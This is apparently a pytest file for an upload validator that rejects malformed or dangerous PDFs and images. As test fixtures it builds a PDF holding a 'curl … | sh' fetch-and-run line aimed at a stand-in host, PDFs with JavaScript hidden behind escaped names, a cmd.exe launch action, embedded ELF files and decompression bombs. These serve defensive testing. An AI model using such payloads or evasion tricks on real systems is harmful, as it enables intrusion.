"""Uploaded materials are parsed as what they claim to be: a real PDF without scripts or
attachments, a PNG or JPEG that decodes in full within the pixel bound and ends where
the image ends."""

from __future__ import annotations

import io
import struct
import zlib

import pytest
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from onceonly.intake.upload_content import check_jpeg, check_pdf, check_png
from onceonly.intake.uploads import UploadRefused, check_upload

MAX_PIXELS = 40_000_000
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(56)


def pdf(pages: int = 1, *, build: object = None) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    if callable(build):
        build(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def image(kind: str, size: tuple[int, int] = (64, 48), mode: str = "RGB") -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, color=0).save(out, format=kind)
    return out.getvalue()


def refused(call: object, *args: object, **kwargs: object) -> str:
    with pytest.raises(ValueError) as caught:
        call(*args, **kwargs)  # type: ignore[operator]
    return caught.value.code  # type: ignore[attr-defined]


def test_a_real_pdf_passes() -> None:
    assert check_pdf(pdf(pages=2)) == 2


def test_pdf_magic_followed_by_a_script_is_not_a_pdf() -> None:
    data = b"%PDF-1.7\n#!/bin/sh\ncurl http://example.invalid/x | sh\n"
    assert refused(check_pdf, data) == "malformed"


def open_action(kind: str, key: str, value: str) -> object:
    def build(writer: PdfWriter) -> None:
        # On the first page's additional actions: found wherever it hides in the graph.
        page = writer.pages[0]
        action = DictionaryObject(
            {NameObject("/S"): NameObject(kind), NameObject(key): TextStringObject(value)}
        )
        page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})

    return build


def test_a_pdf_with_javascript_is_refused() -> None:
    data = pdf(build=open_action("/JavaScript", "/JS", "app.alert('x');"))
    assert refused(check_pdf, data) == "active_content"


def test_javascript_behind_escaped_names_is_found() -> None:
    # `/J#53` is `/JS` once parsed: a scan of the raw bytes would miss it.
    data = pdf(build=open_action("/JavaScript", "/JS", "app.alert('x');"))
    disguised = data.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")
    assert b"/JavaScript" not in disguised
    assert refused(check_pdf, disguised) == "active_content"


def test_a_pdf_with_an_attached_file_is_refused() -> None:
    data = pdf(build=lambda w: w.add_attachment("run.exe", ELF))
    assert refused(check_pdf, data) == "active_content"


def test_a_pdf_with_a_launch_action_is_refused() -> None:
    data = pdf(build=open_action("/Launch", "/F", "cmd.exe"))
    assert refused(check_pdf, data) == "active_content"


def test_a_pdf_with_a_link_passes() -> None:
    assert check_pdf(pdf(build=open_action("/URI", "/URI", "https://www.gov.cn/"))) == 1


def test_an_encrypted_pdf_is_refused() -> None:
    data = pdf(build=lambda w: w.encrypt("secret", algorithm="AES-128"))
    assert refused(check_pdf, data) == "encrypted_pdf"


def test_a_pdf_without_pages_is_refused() -> None:
    assert refused(check_pdf, pdf(pages=0)) == "malformed"


def test_a_truncated_pdf_is_refused() -> None:
    assert refused(check_pdf, pdf()[:200]) == "malformed"


@pytest.mark.parametrize("mode", ["RGB", "L", "1", "P"])
def test_a_real_png_passes(mode: str) -> None:
    assert check_png(image("PNG", mode=mode), max_pixels=MAX_PIXELS) == (64, 48)


@pytest.mark.parametrize("mode", ["RGB", "L"])
def test_a_real_jpeg_passes(mode: str) -> None:
    assert check_jpeg(image("JPEG", mode=mode), max_pixels=MAX_PIXELS) == (64, 48)


def test_a_progressive_jpeg_with_restart_markers_passes() -> None:
    out = io.BytesIO()
    Image.effect_noise((200, 120), 60).convert("RGB").save(
        out, format="JPEG", progressive=True, restart_marker_blocks=4
    )
    assert check_jpeg(out.getvalue(), max_pixels=MAX_PIXELS) == (200, 120)


def test_a_png_header_before_an_elf_is_refused() -> None:
    data = b"\x89PNG\r\n\x1a\n" + ELF
    assert refused(check_png, data, max_pixels=MAX_PIXELS) == "malformed"


def test_a_png_followed_by_an_elf_is_refused() -> None:
    assert refused(check_png, image("PNG") + ELF, max_pixels=MAX_PIXELS) == "trailing_data"


def test_a_jpeg_followed_by_an_elf_is_refused() -> None:
    assert refused(check_jpeg, image("JPEG") + ELF, max_pixels=MAX_PIXELS) == "trailing_data"


def test_a_truncated_image_is_refused() -> None:
    png, jpeg = image("PNG"), image("JPEG")
    assert refused(check_png, png[: len(png) - 20], max_pixels=MAX_PIXELS) == "malformed"
    assert refused(check_jpeg, jpeg[: len(jpeg) - 20], max_pixels=MAX_PIXELS) == "malformed"


def test_a_png_with_a_broken_chunk_is_refused() -> None:
    data = bytearray(image("PNG"))
    data[40] ^= 0xFF  # inside IDAT: its CRC no longer matches
    assert refused(check_png, bytes(data), max_pixels=MAX_PIXELS) == "malformed"


def test_a_decompression_bomb_is_refused_before_it_is_decoded() -> None:
    # 1-bit, 12000 x 12000 (144 megapixels) of zeros: a few kilobytes as a PNG.
    bomb = image("PNG", size=(12_000, 12_000), mode="1")
    assert len(bomb) < 100_000
    assert refused(check_png, bomb, max_pixels=MAX_PIXELS) == "too_many_pixels"


def test_a_forged_png_header_claiming_huge_dimensions_is_refused() -> None:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    header = struct.pack(">IIBBBBB", 1_000_000, 1_000_000, 8, 0, 0, 0, 0)
    data = (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(bytes(10_000)))
        + chunk(b"IEND", b"")
    )
    assert refused(check_png, data, max_pixels=MAX_PIXELS) == "too_many_pixels"


def test_a_jpeg_over_the_pixel_bound_is_refused() -> None:
    assert refused(check_jpeg, image("JPEG"), max_pixels=1000) == "too_many_pixels"


def test_check_upload_answers_422_for_malformed_content_and_415_for_other_types() -> None:
    with pytest.raises(UploadRefused) as malformed:
        check_upload("application/pdf", b"%PDF-1.4\n<script>", max_bytes=10**6, max_pixels=10)
    assert (malformed.value.status, malformed.value.code) == (422, "malformed")
    # No internals in the message: what is wrong with the file, not the parser's words.
    assert "pypdf" not in malformed.value.message_en.lower()
    with pytest.raises(UploadRefused) as unsupported:
        check_upload("application/zip", b"PK\x03\x04", max_bytes=10**6, max_pixels=10)
    assert unsupported.value.status == 415
    assert check_upload("image/png", image("PNG"), max_bytes=10**6, max_pixels=10**6) == (
        "image/png"
    )
